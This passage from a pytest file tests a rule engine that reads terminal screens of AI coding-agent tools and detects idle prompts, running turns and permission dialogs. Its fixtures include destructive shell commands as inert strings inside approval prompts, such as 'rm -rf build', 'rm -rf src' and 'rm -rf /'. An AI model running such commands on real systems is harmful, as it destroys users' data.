], ids=["dots", "bar", "arrows", "full", "elided", "checkbox", "checked", "two-marks"])
def test_a_word_and_a_moving_bracketed_field_is_a_turn_running(
        generic: rules.Manifest, row: str, works: bool) -> None:
    v = read(generic, ["   │ you", "   │   > fix it", "", row, *FC_FOOT])
    assert (v.state == "working") == works, (v.rule_id, row)


@pytest.mark.parametrize(("row", "idle"), [
    ("›: ", True), ("╰─❯ ", True), ("└─> ", True), ("╰─❯ make the files", False),
    ("›: fix it", False), ("╰──────❯ ", False),
])
def test_a_pointer_glued_to_a_colon_or_a_corner_is_a_chats_prompt(
        generic: rules.Manifest, row: str, idle: bool) -> None:
    rows = ["  The build directory is gone.", "", "╭─ 👤 You", row]
    v = read_typing_at_end(generic, rows)
    assert (v.rule_id == "line_chat_prompt") == idle, (v.rule_id, row)


# ---------------------- a bare "Allow?" on the cursor's row (its key list eaten by markup)

TOOL_CALL = ["❯ clean up", "", "  ⚡ Tool request: run_command", "     command: ls -la",
             "touch x1.txt", ""]


@pytest.mark.parametrize("ask", ["  Allow? ", "Approve? ", "Run it? ", "Allow? y"])
def test_a_bare_allow_on_the_cursors_row_asks_leave(generic: rules.Manifest, ask: str) -> None:
    v = rules.evaluate(generic, at_input([*TOOL_CALL, ask], len(ask)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission"), v
    d = v.dialog
    assert d is not None and not d.partial
    # the call above it, every row of its command, is what it asks about
    assert [r.strip() for r in d.subject] == ["⚡ Tool request: run_command",
                                              "command: ls -la", "touch x1.txt"]
    assert dialog.keys_for(d, dialog.resolve(d, "no"))[-2:] == ["n", "\r"]


@pytest.mark.parametrize(("rows", "typed"), [
    # in a sentence
    ([*TOOL_CALL, "Should I allow? "], None),
    # more words after it
    ([*TOOL_CALL, "Allow? Sure, go ahead"], None),
    # typed at the chat's prompt and not entered
    (["❯ Allow?"], "Allow?"),
    # quoted in an answer, the prompt under it
    ([*TOOL_CALL, "  Allow?", "It asked that.", "❯ "], None),
], ids=["sentence", "answered", "typed", "quoted"])
def test_bare_allows_that_ask_nothing(generic: rules.Manifest, rows: list[str],
                                      typed: str | None) -> None:
    v = rules.evaluate(generic, at_input(rows, len(rows[-1]), typed=typed))
    assert v.state != "blocked", v.rule_id


def _tall_box(label_rows: int) -> list[str]:
    """A boxed numbered approval whose second option wraps over `label_rows` rows (each
    command of a long script named in it), its hints, its bottom edge, a status row."""
    inner = 116
    edge = "╭" + "─" * inner + "╮"
    rows = [edge, "│ Do you want to proceed?".ljust(inner + 1) + "│",
            "│ ❯ 1. Yes".ljust(inner + 1) + "│",
            "│   2. Yes, and don't ask again for `touch f00.txt` commands,".ljust(inner + 1) + "│"]
    rows += [f"│ `touch f{i:02d}.txt` commands, `touch f{i + 50:02d}.txt` commands,".ljust(inner + 1)
             + "│" for i in range(1, label_rows)]
    rows += ["│   3. No, and tell the model what to do differently".ljust(inner + 1) + "│",
             "│ ↑/↓ select · Enter confirm · Esc deny and stop".ljust(inner + 1) + "│",
             "╰" + "─" * inner + "╯", " ~/work  openai/gpt-4o  ask mode"]
    return rows


@pytest.mark.parametrize("label_rows", [13, 30])
def test_a_boxed_list_whose_option_wraps_over_many_rows(generic: rules.Manifest,
                                                        label_rows: int) -> None:
    """A numbered approval in a box whose second option names each command of a long
    script over many wrapped rows: its question and first options stand far above the
    bottom 16 rows, and it is still the dialog, every option read, chosen with the
    arrows."""
    rows = ["  ⚠ Run shell command:", "  touch f00.txt", "", " Working... (ESC to cancel)  1s",
            "", *_tall_box(label_rows)]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * (50 - len(rows)),
                                               cursor=(len(rows) - 1, 0)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list_tall"), v
    d = v.dialog
    assert d is not None and d.question == "Do you want to proceed?"
    assert [(o.number, o.selected) for o in d.options] == [(1, True), (2, False), (3, False)]
    assert dialog.keys_for(d, dialog.resolve(d, "3")) == ["\x1b[B", "\x1b[B", "\r"]


def test_a_tall_numbered_list_with_no_box_on_its_rows_is_none_of_it(
        generic: rules.Manifest) -> None:
    """The same list quoted in the conversation, its rows behind no box's edge, over a
    picker's hints: not the tall dialog."""
    box = _tall_box(20)
    rows = [r[1:-1] for r in box[1:-3]] + ["", "↑/↓ select · Enter confirm", "╰" + "─" * 20]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * (50 - len(rows)),
                                               cursor=(len(rows) - 1, 0)))
    assert v.rule_id != "tui_dialog_list_tall"


#: a line-mode chat's answered choice, left printed with the pointer on the option chosen
ANSWERED_CHOICE = ["Allow bash? {'command': 'ls -la'}",
                   " Choose a permission decision (arrow keys, Enter):",
                   "   >  1. Approve once: run this operation",
                   "      2. Always allow similar operations: save a grant",
                   "      3. Deny: skip this operation", ""]
SQUARE_COMPOSER = ["┌" + "─" * 98 + "┐", "│Describe a task, or type /help for commands…".ljust(99) + "│",
                   "└" + "─" * 98 + "┘", " Enter send · Ctrl+J / Alt+Enter newline · ↑ history"]


def test_a_live_numbered_choice_with_no_hints_is_a_dialog(generic: rules.Manifest) -> None:
    """The same choice while it waits: its pointer on its default, nothing under it."""
    rows = ["I will list the files.", *ANSWERED_CHOICE[:2],
            "      1. Approve once: run this operation", ANSWERED_CHOICE[3],
            "   >  3. Deny: skip this operation"]
    v = read(generic, rows)
    assert (v.state, v.kind) == ("blocked", "permission"), v
    d = v.dialog
    assert d is not None and [o.selected for o in d.options] == [False, False, True]


@pytest.mark.parametrize("rows", [
    # the tool's call and result rows under it: the choice was answered
    [*ANSWERED_CHOICE, "→ bash (command=ls -la)", "← exit code: 0"],
    ["I will list the files.", *ANSWERED_CHOICE[1:], "⏺ Bash(ls -la)", "  ⎿  total 0"],
    # the turn over: its answer and the composer's box, whose own hints are the last row
    [*ANSWERED_CHOICE, "→ bash (command=ls -la)", "← exit code: 0", "Done: two files.",
     *SQUARE_COMPOSER],
], ids=["call-row", "call-glued", "composer-under"])
def test_an_answered_choice_left_printed_is_no_dialog(generic: rules.Manifest,
                                                       rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", v.rule_id


#: a tool's block in the transcript, each row behind a bar, asking with key-led buttons
BAR_BLOCK = [" ▌", " ▌  △ Permission required", " ▌", " ▌ $ bash rm -rf build", " ▌",
             " ▌ [y] approve   [n] deny   (← → enter)", " ▌", ""]
RULED_INPUT = ["─" * 100, " › Ask anything · / commands · @ files", "─" * 100,
               "  …/work                                         ctx -", "  ⏹ approvals: prompt"]


def test_key_led_buttons_over_a_running_turns_spinner(generic: rules.Manifest) -> None:
    rows = ["remove the build", "", *BAR_BLOCK,
            " ⠏ Running the command... (esc to interrupt)", *RULED_INPUT]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_keys_over_spinner"), v
    d = v.dialog
    assert d is not None and not d.partial
    assert [r.strip() for r in d.subject] == ["$ bash rm -rf build"]
    assert [(o.label, o.key) for o in d.options] == [("approve", "y"), ("deny", "n")]
    assert dialog.keys_for(d, dialog.resolve(d, "deny")) == ["n"]


def test_key_led_buttons_whose_command_is_cut_are_partial(generic: rules.Manifest) -> None:
    block = [*BAR_BLOCK[:3], " ▌ $ bash touch f00.txt", " ▌ touch f01.txt",
             " ▌ ... (59 more lines)", *BAR_BLOCK[4:]]
    v = read(generic, ["make sixty files", "", *block, " ⠋ Thinking... (esc to interrupt)",
                       *RULED_INPUT])
    assert v.rule_id == "tui_keys_over_spinner"
    assert v.dialog is not None and v.dialog.partial  # answer refuses: not all of it shown


@pytest.mark.parametrize("rows", [
    # quoted in an answer: its words under it, no spinner
    ["what does it show?", "", *BAR_BLOCK, "That is its permission block.", "", *RULED_INPUT],
    # quoted, the turn over: the composer right under it
    ["what does it show?", "", *BAR_BLOCK, *RULED_INPUT],
], ids=["quoted", "turn-over"])
def test_key_led_buttons_that_ask_nothing(generic: rules.Manifest, rows: list[str]) -> None:
    assert read(generic, rows).rule_id != "tui_keys_over_spinner"


@pytest.mark.parametrize("prompt", ["you > ", "User > ", "⏵ agent > "])
def test_a_word_and_a_spaced_pointer_is_a_chat_prompt(generic: rules.Manifest,
                                                       prompt: str) -> None:
    v = rules.evaluate(generic, at_input(["hello", "", prompt], len(prompt)))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), v


@pytest.mark.parametrize("row", ["you > make the files", "a > b", "two words > "])
def test_what_is_no_spaced_pointer_prompt(generic: rules.Manifest, row: str) -> None:
    """A line entered at the prompt, a comparison, words before the pointer."""
    v = rules.evaluate(generic, at_input(["hello", "", row], len(row)))
    assert v.rule_id != "line_chat_prompt", v


CALL_ASKED = ["You > make the output directory", "I will create the directory.",
              "> bash(command='mkdir -p out')", "",
              "permission requested: bash(command='mkdir -p out')"]
KEYS_COLON = "  [y] allow once  [a] always allow this tool  [n] deny: "


def test_key_led_options_ending_in_a_glued_colon_on_the_cursors_row(
        generic: rules.Manifest) -> None:
    v = rules.evaluate(generic, at_input([*CALL_ASKED, KEYS_COLON], len(KEYS_COLON)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_keys_permission"), v
    d = v.dialog
    assert d is not None
    assert [(o.label, o.key) for o in d.options] == [
        ("allow once", "y"), ("always allow this tool", "a"), ("deny", "n")]


def test_the_same_options_answered_and_left_printed_ask_nothing(
        generic: rules.Manifest) -> None:
    """The line entered ("deny: y"), the cursor on the row under it (the command runs)."""
    rows = [*CALL_ASKED, KEYS_COLON + "y", ""]
    v = rules.evaluate(generic, at_input(rows, 0))
    assert v.state != "blocked", v.rule_id


GLUED_COLON = "  Allow? [y]es / [n]o / [a]lways (bash) / [q]uit: "


def test_glued_keys_on_the_cursors_row_ending_in_a_colon(generic: rules.Manifest) -> None:
    rows = ["you › run the commands", "→ bash ls -la", "touch x1.txt", "",
            "  BASH requested: run: ls -la", "    touch x1.txt", GLUED_COLON]
    v = rules.evaluate(generic, at_input(rows, len(GLUED_COLON)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                            "line_glued_keys_permission"), v
    d = v.dialog
    assert d is not None and not d.partial
    # every row of the command it asks about, printed above it
    assert [r.strip() for r in d.subject] == ["BASH requested: run: ls -la", "touch x1.txt"]
    assert [o.key for o in d.options] == ["y", "n", "a", "q"]
    assert dialog.keys_for(d, dialog.resolve(d, "[n]o")) == ["n", "\r"]
    # answered (the cursor on the next row), it asks nothing
    v = rules.evaluate(generic, at_input([*rows[:-1], GLUED_COLON + "y", ""], 0))
    assert v.state != "blocked", v.rule_id


def test_edged_buttons_under_a_question_in_a_half_block_modal(generic: rules.Manifest) -> None:
    rows = ["   █▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀█",
            "   █ Agent wants to execute run_bash              █",
            "   █ Do you want to allow this action?            █",
            "   █                                              █",
            "   █  ▔▔▔▔▔▔▔▔▔▔▔▔  ▔▔▔▔▔▔▔▔▔▔                     █",
            "   █    Approve        Deny                       █",
            "   █  ▁▁▁▁▁▁▁▁▁▁▁▁  ▁▁▁▁▁▁▁▁▁▁                     █",
            "   █▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄▄█"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                            "tui_dialog_buttons_edged"), v
    assert v.msg == "Do you want to allow this action?"


@pytest.mark.parametrize("ask", ["Install the package? [y|n] ", "Remove build? (y|n|a) "])
def test_a_key_list_whose_keys_a_bar_separates(generic: rules.Manifest, ask: str) -> None:
    v = rules.evaluate(generic, at_input(["$ make install", ask], len(ask)))
    assert v.state == "blocked", v
    assert v.dialog is not None and [o.key for o in v.dialog.options][:2] == ["y", "n"]


FRAMED = ["          ┌ Permission ──────────────────────────┐",
          "          │                                      │",
          "          │ Run rm -rf build?                    │",
          "          │                                      │",
          "          │                         No   Yes     │",
          "          └──────────────────────────────────────┘"]


def test_word_buttons_on_a_framed_dialogs_last_row(generic: rules.Manifest) -> None:
    v = read(generic, ["", "", *FRAMED, "", ""])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_box_buttons"), v
    assert v.msg == "Run rm -rf build?"


def test_word_buttons_in_a_frame_with_more_drawn_under_it(generic: rules.Manifest) -> None:
    """A frame in the conversation, the conversation going on under it: not drawn last."""
    v = read(generic, [*FRAMED, "It asked that, and I said no.", "> "])
    assert v.rule_id != "tui_dialog_box_buttons"


# --------------- a modal's key hints over a framed list led by bare keys (generic .54)

def _hints_modal(command: list[str], hints: str = "Enter Once · N Deny · 2 Session · 3 Always",
                 options: tuple[str, ...] = ("1  Once      Run this bash once",
                                             "N  Deny      Block this call",
                                             "2  Session   Allow all bash until quit",
                                             "3  Always    Remember for this project")
                 ) -> list[str]:
    """A Textual modal of tall bars ("▊ ... ▎") over an otherwise blank screen."""
    def row(text: str) -> str:
        return f"        ▊  {text:<56}▎"
    return ["", "", "        ▊▔  APPROVAL REQUIRED  " + "▔" * 38 + "▎",
            row("PAIRWIT  ·  SECURITY GATE"), row("Approve this action to continue"),
            row(""), *(row("  " + c) for c in command), row(""),
            row("The agent is paused. Nothing runs until you decide."), row(""),
            row(hints), "        ▊  ▊" + "▔" * 50 + "▎  ▎",
            *(f"        ▊  ▊{o:<50}▎  ▎" for o in options),
            "        ▊  ▊" + "▁" * 50 + "▎  ▎", row(""), "        ▊" + "▁" * 57 + "▎", "", ""]


def test_key_hints_over_a_framed_list_of_bare_keys_are_a_permission(
        generic: rules.Manifest) -> None:
    """Pairwit's approval: hints pairing each key with its answer over a framed list led
    by bare keys; its options are the hints' words, each chosen with its key alone; its
    subject is the modal's rows from its top edge, the bars taken off."""
    v = read(generic, _hints_modal(["Run shell command  ·  bash", "rm -rf build"]))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_key_hints"), v
    assert v.msg == "Approve this action to continue"
    d = v.dialog
    assert d is not None and not d.partial
    assert [(o.label, o.key) for o in d.options] == [("Once", "enter"), ("Deny", "n"),
                                                      ("Session", "2"), ("Always", "3")]
    assert "rm -rf build" in [x.strip() for x in d.subject]
    assert not any(c in x for x in d.subject for c in "▊▎")
    assert dialog.keys_for(d, dialog.resolve(d, "Deny")) == ["n"]
    assert dialog.keys_for(d, dialog.resolve(d, "Once")) == ["\r"]
    # another command is another dialog
    other = read(generic, _hints_modal(["Run shell command  ·  bash", "rm -rf src"]))
    assert other.dialog is not None and other.dialog.id != d.id


def test_key_hints_that_approve_nothing_are_a_question(generic: rules.Manifest) -> None:
    v = read(generic, _hints_modal(["Pick a branch"], hints="1 Main · 2 Dev · N Cancel",
                                   options=("1  Main", "2  Dev", "N  Cancel")))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_key_hints"), v


@pytest.mark.parametrize("rows", [
    # quoted in an answer: the list in no frame, a sentence under it
    ["  Pairwit asked:", "    APPROVAL REQUIRED", "    rm -rf build",
     "    Enter Once · N Deny · 2 Session · 3 Always",
     "    1  Once      Run this bash once", "    N  Deny      Block this call",
     "  Nothing is waiting now.", "─" * 60, " > Ask anything", "",
     "  ⌃B files  ·  ⌃E editor  ·  ↵ send"],
    # typed in a composer
    ["─" * 60, " > APPROVAL REQUIRED Enter Once · N Deny · 2 Session · 3 Always", "",
     "  ⌃B files  ·  ⌃E editor  ·  ↵ send"],
    # a footer of shortcuts, no framed list under it
    ["  ⌃B files  ·  ⌃E editor  ·  Tab mode  ·  ⌃P menu  ·  ↵ send"],
])
def test_key_hints_that_ask_nothing(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", v.rule_id


COMPOSER_UNDER_RULE = ["  Two plus two is four.", "", "─" * 100,
                       " > Ask Pairwit anything… (Ctrl+O to attach)", "", "",
                       "  ⌃B files  ·  ⌃E editor  ·  ⌃O attach  ·  Tab mode  ·  ↵ send"]


def test_a_composer_under_one_rule_over_a_footer_is_idle(generic: rules.Manifest) -> None:
    v = read(generic, COMPOSER_UNDER_RULE)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_rule_footer"), v


@pytest.mark.parametrize("rows", [
    # its footer offering to cancel: a turn runs
    [*COMPOSER_UNDER_RULE[:-1], "  ⌃B files  ·  ⌃E editor  ·  Esc cancel  ·  ↵ queue"],
    # a line entered under a rule, an answer's row under it (no footer of items)
    ["─" * 100, " > make the files", "", "  Making them now."],
])
def test_what_is_no_composer_under_one_rule(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_composer_rule_footer", v


@pytest.mark.parametrize("row", ["    ● ● ● ● ● Thought briefly", "● ● ● ● thinking — working…",
                                 "  ● ● ● ● ●"])
def test_a_row_of_loading_dots_before_words_is_a_turn_running(generic: rules.Manifest,
                                                              row: str) -> None:
    v = read(generic, [row, "", *COMPOSER_UNDER_RULE[2:]])
    assert v.state == "working", v


@pytest.mark.parametrize("row", ["  ● ● ○ ○ rating", "  ● Thought briefly", "  ●●●● done"])
def test_what_is_no_row_of_loading_dots(generic: rules.Manifest, row: str) -> None:
    v = read(generic, [row, "", *COMPOSER_UNDER_RULE[2:]])
    assert v.state != "working", v


def _titled_modal(command: list[str]) -> list[str]:
    """The same modal with a command so long that its hints and options are out of it."""
    rows = _hints_modal(command)
    return rows[:5] + [f"        ▊  {'  ' + c:<56}▎" for c in command] + rows[-4:]


def test_a_modal_titled_on_its_top_edge_is_a_permission(generic: rules.Manifest) -> None:
    cmd = [f"touch f{i:02d}.txt" for i in range(16)]
    v = read(generic, _titled_modal(cmd))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                            "tui_dialog_titled_modal"), v
    assert v.msg == "Approve this action to continue"
    d = v.dialog
    assert d is not None and [x.strip() for x in d.subject][-16:] == cmd
    other = read(generic, _titled_modal([*cmd[:-1], "rm -rf /"]))
    assert other.dialog is not None and other.dialog.id != d.id


@pytest.mark.parametrize("rows", [
    # left in a transcript: words under it
    [*_titled_modal(["rm -rf build"])[:-2], "  ✗ Denied — Run shell command", "> "],
    # its title quoted in a row of text
    ["  The modal said APPROVAL REQUIRED and I approved this action.", "> "],
    # a titled box answered under it, the next box (its bottom edge worded) drawn last
    ["╭─ Approval required " + "─" * 40 + "╮", "│  Execute: rm -rf build" + " " * 37 + "│",
     "╰" + "─" * 60 + "╯", "", "Approve? [y/n/yes/no] (n): n", "",
     "╭─ ✗ shell " + "─" * 50 + "╮", "│  User rejected the operation" + " " * 31 + "│",
     "╰" + "─" * 52 + " failed ─╯", "", ""],
])
def test_titled_modals_that_ask_nothing(generic: rules.Manifest, rows: list[str]) -> None:
    assert read(generic, rows).rule_id != "tui_dialog_titled_modal"


# --------------- an expand prompt's keys glued in parentheses (generic .54)

@pytest.mark.parametrize("ask", ["? Run rm -rf build? (yanH) ", "Delete it? (Ynq)", "Apply? (nyd) y"])
def test_keys_glued_in_parentheses_after_the_question(generic: rules.Manifest, ask: str) -> None:
    v = rules.evaluate(generic, at_input(["$ rm -rf build", ask], len(ask)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission",
                                            "glued_key_list_permission"), v
    d = v.dialog
    assert d is not None and {"y", "n"} <= {o.key for o in d.options}
    assert dialog.keys_for(d, dialog.resolve(d, "n")) == ["n", "\r"]


@pytest.mark.parametrize("rows", [
    ["Which tool? (npm)"],  # a word with no y
    ["Ready? (yes)"],  # a word with no n
    ["User: Run it? (yn)"],  # typed at a chat's prompt
    ["? Run rm -rf build? (yanH) y", ""],  # answered: the cursor on the next row
])
def test_parenthesised_words_that_are_no_glued_key_list(generic: rules.Manifest,
                                                       rows: list[str]) -> None:
    v = rules.evaluate(generic, at_input(rows, len(rows[-1])))
    assert v.rule_id != "glued_key_list_permission", v


# --------------- a legend of keys and a start-up's tip are no turn running (generic .54)

COMPOSER_BOXED = ["┌" + "─" * 60 + "┐", "│❯ Ask anything, or type / for commands" + " " * 21 + "│",
                  "└" + "─" * 60 + "┘", "  ○ ask · shift+tab to switch"]


@pytest.mark.parametrize("row", [
    "  / commands  ·  shift+tab mode  ·  ctrl+c interrupt  ·  ctrl+d exit",
    "  ctrl+d exit  ·  esc to interrupt  ·  tab complete",
    "  3. Press Esc to interrupt, /rewind to undo a request",
])
def test_a_legend_of_keys_or_a_tip_naming_the_interrupt_key_is_no_turn_running(
        generic: rules.Manifest, row: str) -> None:
    v = read(generic, ["  tinyharness v0.1.0", row, "", *COMPOSER_BOXED])
    assert (v.state, v.rule_id) == ("idle", "tui_composer"), v


@pytest.mark.parametrize("row", ["⠋ Working… 2s · ctrl+c to interrupt",
                                 "■■■⬝⬝⬝  esc interrupt    ctrl+p commands",
                                 "✦ Thinking… (0s · esc to interrupt)"])
def test_a_running_turns_hint_still_reads_working(generic: rules.Manifest, row: str) -> None:
    """Under such a legend a running turn's row still reads working from its spinner or
    its elapsed time (a bare "esc interrupt" beside it does not: the legend vetoes it)."""
    v = read(generic, ["  / commands  ·  ctrl+c interrupt  ·  ctrl+d exit", "", row, "",
                       *COMPOSER_BOXED])
    assert v.state == "working", v


# --------------- numbered options under a question that asks to act (generic .54)

JOSHU_LIKE = ["─" * 100, "> make the output directory", "", "● I will create the directory.",
              "╭" + "─" * 60 + "╮", "│ Bash command" + " " * 47 + "│",
              "│ sleep 3 && mkdir -p out" + " " * 36 + "│", "╰" + "─" * 60 + "╯",
              " Do you want to run this command?", "   ❯  1. 1. Yes",
              "      2. 2. No, and tell Joshu what to do differently (esc)"]


def test_numbered_options_under_a_question_that_asks_to_act(generic: rules.Manifest) -> None:
    """Joshu's approval: each number drawn twice ("1. 1. Yes"), the user's line echoed
    under a rule above the question (no composer under the options)."""
    v = read(generic, JOSHU_LIKE)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_marked"), v
    assert v.msg == "Do you want to run this command?"


@pytest.mark.parametrize("under", [
    ["", "● Bash(sleep 3 && mkdir -p out)", "✦ Running sleep 3… (0s · esc to interrupt)"],
    ["", "● Bash(sleep 3 && mkdir -p out)", "  ⎿  (no output)"],
    ["─" * 100, "> ", "─" * 100],
])
def test_numbered_options_answered_or_over_a_composer_ask_nothing(
        generic: rules.Manifest, under: list[str]) -> None:
    v = read(generic, [*JOSHU_LIKE, *under])
    assert v.state != "blocked", v


# --------------- a composer behind a full block's bar (generic .55)

def test_a_composer_behind_a_full_block_bar_is_idle(generic: rules.Manifest) -> None:
    """Windcode's composer: a full block "█" down its left side, its placeholder behind it,
    a status row under it."""
    rows = ["    ● Two plus two is four.", "", "  █", "  █    输入任务, 或输入 / 使用命令", "  █",
            "  █      已完成 · 默认  沙箱: 开启" + " " * 40 + "gpt-4o"]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_bar"), v


def test_a_half_block_modal_with_a_right_edge_is_no_bar_composer(generic: rules.Manifest) -> None:
    rows = ["   █" + " " * 40 + "█", "   █ Agent wants to execute run_bash" + " " * 6 + "█",
            "   █" + " " * 40 + "█", ""]
    assert read(generic, rows).rule_id != "tui_composer_bar"


# --------------- generic .56: a footer's hint at rest, a sidebar beside the composer, a
# composer over a footer, a select box, a list over its turn's spinner, a box over the
# transcript's rule, an answer's glyph over a turn's summary

SIDEBAR = " " * 90 + "│  Context"
DEVCODER_LIKE = ["│ what is two plus two" + " " * 68 + "│", "", " Two plus two is four.",
                 *[SIDEBAR] * 6,
                 "│" + " " * 89 + "│", "│ Ask anything... \"Fix a TODO in the codebase\"" + " " * 43 + "│",
                 "│" + " " * 89 + "│", "│" + " " * 89 + "│"]


def test_a_footers_hint_far_right_after_its_words_is_no_running_turn(
        generic: rules.Manifest) -> None:
    """A footer that shows "esc interrupt" at rest, far right of its mode and model; the
    composer beside a sidebar's edge reads idle."""
    rows = [*DEVCODER_LIKE, "│ Build • gpt-4 DevCoder Zen" + " " * 46 + "esc interrupt   │",
            "│" + " " * 89 + "│"]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_bar"), v


@pytest.mark.parametrize("footer", [
    "│ ━━╺━━━━━━━━━━━━esc interrupt",  # its moving bar
    "│ ⠙ Working" + " " * 20 + "esc interrupt",  # a spinner
    "│ Thinking…" + " " * 20 + "esc interrupt",  # words of work
])
def test_a_running_turns_hint_after_its_bar_or_spinner_is_work(
        generic: rules.Manifest, footer: str) -> None:
    v = read(generic, [*DEVCODER_LIKE, footer, "│" + " " * 89 + "│"])
    assert v.state == "working", v


def test_a_legend_of_keys_apart_by_bullets_is_no_running_turn(generic: rules.Manifest) -> None:
    """A banner's legend naming the key to interrupt and the one to leave ("Ctrl+C twice to
    exit"), apart by "•", over an empty composer with the cursor after its glyph."""
    rows = ["│ /help for commands • Ctrl+C to interrupt • Ctrl+C twice to exit       │",
            "╰" + "─" * 71 + "╯", "", " » what is two plus two", "", "Two plus two is four.", "",
            "❯ Type your message or @path/to/file", "", "",
            "● default  ·  📂 /work  ·  ✱ gpt-4o  ·  🧠 off  ·  ◔ 0% · 105/128K"]
    snap = rules.Snapshot(lines=rows + [""] * 19, cursor=(7, 2))
    v = rules.evaluate(generic, snap)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_glyph_footer"), v


def test_a_working_row_over_the_composer_reads_first(generic: rules.Manifest) -> None:
    rows = ["⠙ Working… (3s · esc to cancel)", "", "❯ Type your message or @path/to/file", "",
            "", "● default  ·  📂 /work  ·  ✱ gpt-4o  ·  🧠 off  ·  ◔ 0% · 105/128K"]
    v = rules.evaluate(generic, rules.Snapshot(lines=rows + [""] * 25, cursor=(2, 2)))
    assert v.state == "working", v


def test_an_answered_lists_result_row_under_it_asks_nothing(generic: rules.Manifest) -> None:
    """A refusal's result row ("⎿  Permission denied: ...") under the options: answered."""
    rows = [" Do you want to run this command?", "   ❯  1. 1. Yes",
            "      2. 2. No, and tell Joshu what to do differently (esc)",
            "  Tell Joshu what to do differently (Enter to skip):",
            "  ⎿  Permission denied: The user denied this tool call.",
            "● Understood, nothing was run."]
    assert read(generic, rows).state != "blocked"
    assert read(generic, rows[:3]).state == "blocked"  # live: nothing under it


SELECT_TOP = "  █  ▊" + "▔" * 60 + "▎"
SELECT_END = "  █  ▊" + "▁" * 60 + "▎"


@pytest.mark.parametrize("field", [
    ["  █  ▊  Select" + " " * 48 + "▼  ▎", SELECT_END],
    ["  █  ▊  Select" + " " * 48 + "▲  ▎", SELECT_END, SELECT_TOP, "  █  ▊  red" + " " * 52 + "▎",
     "     ▊  blue" + " " * 51 + "▎", "     " + SELECT_END.strip()[1:]],
])
def test_a_question_over_a_drop_down_field_is_a_question(
        generic: rules.Manifest, field: list[str]) -> None:
    """A toolkit's Select under a question, a button under it, the composer below."""
    rows = ["      ⠸ 处理中...  (1s)", "", "  █  Which color do you prefer?", SELECT_TOP, *field,
            "  █  ▔▔▔▔▔▔▔▔▔▔▔▔▔▔▔▔", "  █        提交", "  █  ▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁", "", "", "  █",
            "  █    输入任务, 或输入 / 使用命令", "  █", "  █      运行中 · 默认"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_select"), v
    assert v.dialog is not None and v.dialog.question == "Which color do you prefer?"


def test_a_field_with_no_question_over_it_asks_nothing(generic: rules.Manifest) -> None:
    rows = ["  █  Model", SELECT_TOP, "  █  ▊  gpt-4o" + " " * 48 + "▼  ▎", SELECT_END, "", "  █",
            "  █    输入任务, 或输入 / 使用命令", "  █", "  █      空闲 · 默认"]
    assert read(generic, rows).state != "blocked"


AELIX_LIKE = ["● bash(rm -r build)", "", "╭─ Run shell command? ─╮", "│ Run command:         │",
              "│ rm -r build          │", "╰──────────────────────╯", "", "→ 1. [y] Yes",
              "  2. [s] Yes, for this session", "  3. [n] No",
              "  ↑/↓ to move · 1-3 / y·s·n · Enter to confirm · Esc to deny"]


def test_a_list_over_its_turns_spinner_right_under_the_hints_is_live(
        generic: rules.Manifest) -> None:
    """The turn's spinner drawn right under the hints (the turn waits on the answer): a
    permission, its options' bracketed keys before their words."""
    v = read(generic, [*AELIX_LIKE, "⠦ Working… (1s · esc to cancel)", "", "",
                       "● default  ·  📂 /work  ·  ✱ gpt-4o"])
    assert (v.state, v.kind) == ("blocked", "permission"), v
    assert v.dialog is not None and "rm -r build" in v.dialog.question


def test_a_list_with_words_between_it_and_a_running_spinner_is_none(
        generic: rules.Manifest) -> None:
    """A list an answer quoted, the turn's spinner running under more of the answer."""
    v = read(generic, [*AELIX_LIKE, "", "That is what the dialog said.",
                       "⠦ Working… (1s · esc to cancel)"])
    assert v.state != "blocked", v


@pytest.mark.parametrize(("footer", "idle"), [
    ("● default  ·  📂 /work  ·  ✱ gpt-4o  ·  🧠 off", True),
    ("  gpt-4o  ·  /work", False),  # two items: a status row, no footer of keys
    ("↑/↓ move  ·  enter select  ·  esc cancel  ·  tab next", False),  # a dialog's hints
])
def test_a_composer_over_a_footer_of_items_is_idle(
        generic: rules.Manifest, footer: str, idle: bool) -> None:
    rows = ["Two plus two is four.", "", "❯ Type your message or @path/to/file", "", "", footer]
    v = read(generic, rows)
    assert (v.rule_id == "tui_composer_glyph_footer") is idle, v


CARD = [" █   ●  run_command", " █  ╭" + "─" * 60 + "╮", " █  │[-] $ rm -rf build" + " " * 42 + "│",
        " █  ╰" + "─" * 60 + "╯", " █"]
ASKS = [" █    ╭" + "─" * 56 + "╮", " █    │   ?  Allow this action?" + " " * 35 + "│",
        " █    │" + " " * 56 + "│", " █    │     1  Yes" + " " * 46 + "│",
